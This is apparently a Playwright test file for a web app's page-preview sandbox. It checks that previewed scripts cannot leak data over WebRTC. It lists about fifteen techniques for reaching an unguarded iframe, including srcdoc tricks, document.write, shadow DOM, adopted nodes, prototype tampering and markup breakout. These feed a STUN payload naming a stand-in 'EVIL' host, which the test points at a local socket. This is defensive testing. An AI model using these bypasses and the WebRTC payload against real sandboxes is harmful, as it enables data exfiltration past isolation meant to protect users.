"""Scripts of a page that is previewed send nothing by WebRTC, in no frame that they write."""

import contextlib
import json
import select
import socket
from collections.abc import Iterable
from html import escape

from playwright.sync_api import Browser

from generation.page import Page
from webapp.preview import shell

# Ways to a frame in which WebRTC is as the browser made it; EVIL is a STUN server, SENDS a
# document that asks it, ESCAPED the same for an attribute's value.
TO_A_FRAME = {
    "property": "frame.srcdoc = SENDS",
    "attribute": "frame.setAttribute('srcDoc', SENDS)",
    "attribute's node": "const a = document.createAttribute('srcdoc'); a.value = SENDS;"
    "frame.setAttributeNode(a)",
    "attribute of another": "const p = document.createElement('p');"
    "p.setAttribute('srcdoc', SENDS);"
    "frame.setAttributeNode(p.removeAttributeNode(p.attributes[0]))",
    "attribute's text": "frame.toggleAttribute('srcdoc'); frame.attributes[0].textContent = SENDS",
    "markup": 'document.body.innerHTML = `<iframe srcdoc="${ESCAPED}"></iframe>`',
    "pieces": 'for (const c of `<iframe srcdoc="${ESCAPED}"></iframe>`) document.write(c)',
    "fragment": "document.body.append(document.createRange().createContextualFragment("
    '`<iframe srcdoc="${ESCAPED}"></iframe>`))',
    "shadow": "document.body.attachShadow({mode: 'closed'}).innerHTML ="
    '`<iframe srcdoc="${ESCAPED}"></iframe>`',
    "another document": "const other = document.implementation.createHTMLDocument('');"
    'other.write(`<iframe srcdoc="${ESCAPED}"></iframe>`);'
    "document.body.append(document.adoptNode(other.querySelector('iframe')))",
    "XML": "document.body.append(document.adoptNode(new DOMParser().parseFromString(`"
    "<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc=\"${ESCAPED}\"/>`,"
    "'application/xhtml+xml').documentElement))",
    "redefined words": "String.prototype.includes = String.prototype.toLowerCase = () => '';"
    "frame.srcdoc = SENDS",
    "script": "frame.src = 'javascript:' + JSON.stringify(SENDS)",
    "the page's own markup": "</script><svg><style><p></p><iframe srcdoc='SENDS'></iframe><script>",
}
SENDS = (
    "<script>const c = new RTCPeerConnection({iceServers: [{urls: `stun:EVIL`}]});"
    "c.createDataChannel(``); c.createOffer().then(o => c.setLocalDescription(o))</script>"
)


def leaving(way: str, ear: socket.socket) -> str:
    """A page that goes a way to a frame in order to send something to `ear`."""
    sends = SENDS.replace("EVIL", "{}:{}".format(*ear.getsockname()))
    if "SENDS'" in way:
        return f"<!doctype html><script>{way.replace('SENDS', escape(sends))}</script>"
    quoted = json.dumps(sends).replace("</", "<\\/")
    return f"""<!doctype html><body><script>
const SENDS = {quoted}, ESCAPED = SENDS.replaceAll('<', '&lt;');
const frame = document.createElement('iframe');
try {{ {way} }} catch {{}}
document.body.append(frame)</script>"""


def frames(pages: Iterable[str]) -> str:
    boxes = (f'<iframe sandbox="allow-scripts" srcdoc="{escape(page)}"></iframe>' for page in pages)
    return "".join(boxes)


def test_no_script_of_a_page_comes_by_webrtc(browser: Browser):
    with contextlib.ExitStack() as stack, browser.new_context() as context:
        ears = [stack.enter_context(socket.socket(type=socket.SOCK_DGRAM)) for _ in TO_A_FRAME]
        for ear in ears:
            ear.bind(("127.0.0.1", 0))
        pages = [leaving(way, ear) for way, ear in zip(TO_A_FRAME.values(), ears, strict=True)]
        page = context.new_page()
        page.set_content(frames(shell(Page({"index.html": one}), scripts=True) for one in pages))
        page.wait_for_timeout(1000)
        assert heard(ears) == []
        page.set_content(frames(pages))
        for _ in range(200):
            if len(heard(ears)) == len(ears):
                break
            page.wait_for_timeout(100)
        assert heard(ears) == list(TO_A_FRAME)  # of pages that are not guarded


def heard(ears: list[socket.socket]) -> list[str]:
    ready, _, _ = select.select(ears, [], [], 0)
    return [way for way, ear in zip(TO_A_FRAME, ears, strict=True) if ear in ready]
